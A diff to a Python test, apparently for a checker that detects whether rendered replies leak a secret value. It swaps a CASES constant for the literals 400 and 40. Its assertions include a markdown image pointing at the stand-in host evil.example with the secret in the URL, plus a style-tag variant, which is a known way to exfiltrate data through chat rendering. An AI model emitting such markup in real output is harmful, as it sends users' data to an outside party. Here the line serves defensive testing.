@@ -137,10 +137,10 @@ def test_the_judge_sees_what_it_should() -> None:
     """And the search finds places: with values everywhere, each kind of them is hit."""
     filled = (a_reply(seed).replace("T", ADA) for seed in count())
     seen = [0, 0, 0]
-    for _ in range(CASES):
+    for _ in range(400):
         text = next(filled)
         seen = [n + is_sent(text, renderer) for n, renderer in zip(seen, RENDERERS, strict=True)]
-    assert min(seen) > CASES // 10
+    assert min(seen) > 40
     assert is_sent(f"![x](//evil.example/{ADA})", RENDERERS[0])
     assert is_sent(f"<style>{ADA}</style>", RENDERERS[1])
     assert not is_sent(f"![{ADA}](x '{ADA}') `<a x={ADA}>`", RENDERERS[1])
